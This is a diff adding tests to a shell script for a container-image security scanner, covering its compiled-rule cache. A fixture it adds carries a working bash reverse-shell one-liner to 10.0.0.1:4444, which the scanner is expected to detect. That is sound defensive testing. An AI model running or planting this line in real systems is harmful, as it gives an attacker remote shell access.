@@ -77,3 +77,22 @@ chmod 644 "$T/k.pem"
 run "world-readable key refused" 2 "$PC" scan --sign-key "$T/k.pem" "oci:$T/bad/oci:latest"
 grep_in "key refusal reason" 'accessible by other users' "$T/err"
 run "verify usage" 2 "$PC" verify "$T/env.json"
+
+# --- compiled rules are cached beside the facts and checked before use
+jq -n '{tag: "latest", images: [{config: {User: "1000", Entrypoint: ["/app/run"]},
+  layers: [{entries: [{path: "app/run", type: "file", mode: "0755",
+    content: "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"}]}]}]}' >"$T/shell.json"
+"$FB" "$T/shell.json" "$T/shell" >/dev/null 2>&1 || fail "build shell" "fixture-builder failed"
+R="$T/rcache"
+tool() { jq_true "$1" '[.reports[0].findings[] | select(.check == "suspicious-tool" and .path == "/app/run")] | length >= 1'; }
+run "rules compiled and stored" 1 "$PC" scan --cache-dir "$R" --no-cache --format json "oci:$T/shell/oci:latest"
+run "rules compiled and stored (cache on)" 1 "$PC" scan --cache-dir "$R" --format json "oci:$T/shell/oci:latest"
+tool "reverse shell found with freshly compiled rules"
+[ "$(ls "$R"/rules/*.yarc 2>/dev/null | wc -l)" = 1 ] && pass "one compiled rules entry" || fail "one compiled rules entry" "$(ls -la "$R/rules")"
+rm -rf "$R/facts"
+run "rules loaded from the cache" 1 "$PC" scan --cache-dir "$R" --format json "oci:$T/shell/oci:latest"
+tool "reverse shell found with cached rules"
+for f in "$R"/rules/*.yarc; do printf 'XXXXXXXX' | dd of="$f" bs=1 seek=400 conv=notrunc status=none; done
+rm -rf "$R/facts"
+run "corrupt compiled rules are recompiled" 1 "$PC" scan --cache-dir "$R" --format json "oci:$T/shell/oci:latest"
+tool "reverse shell found after a corrupt rules entry"
